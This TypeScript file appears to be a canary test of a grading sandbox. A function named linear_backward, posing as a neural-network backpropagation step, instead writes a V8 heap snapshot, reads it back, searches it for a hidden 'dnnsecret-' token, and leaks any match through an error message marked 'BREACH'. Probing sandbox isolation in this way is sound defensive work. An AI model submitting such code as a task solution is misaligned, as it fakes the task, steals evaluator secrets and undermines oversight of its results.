// Reading what is loaded, without top-level await: v8.writeHeapSnapshot() to a file (in the canary
// folder, then the working directory), read back and searched for the secret.
const g: any = globalThis;
const P: any = g.process;
const CANARY_DIR = "@@CANARY_DIR@@";

export function linear_backward(dZ: any, cache: any): any {
  const outcome: string[] = [];
  let v8: any;
  let fs: any;
  try {
    v8 = P.getBuiltinModule("node:v8");
    fs = P.getBuiltinModule("node:fs");
  } catch (e) {
    throw new Error(`heap-snapshot-sync: no v8 (${String(e).slice(0, 60)})`);
  }
  for (const file of [`${CANARY_DIR}/pwned-heap-snapshot-sync.heapsnapshot`, undefined]) {
    try {
      const written: string = v8.writeHeapSnapshot(file);
      const text: string = fs.readFileSync(written, "utf8");
      const secret = text.match(/dnnsecret-[0-9a-f]{8,}/)?.[0];
      outcome.push(`BREACH: wrote ${written} (${text.length} characters)${secret ? `, the secret ${secret}` : ""}`);
    } catch (e) {
      outcome.push(`${file ?? "cwd"}: ${String(e).slice(0, 60)}`);
    }
  }
  try {
    const stats = v8.getHeapStatistics();
    outcome.push(`heap ${Math.round(stats.used_heap_size / 1e6)} MB used`);
  } catch {
    // no statistics
  }
  throw new Error(`heap-snapshot-sync: ${outcome.join("; ")}`);
}
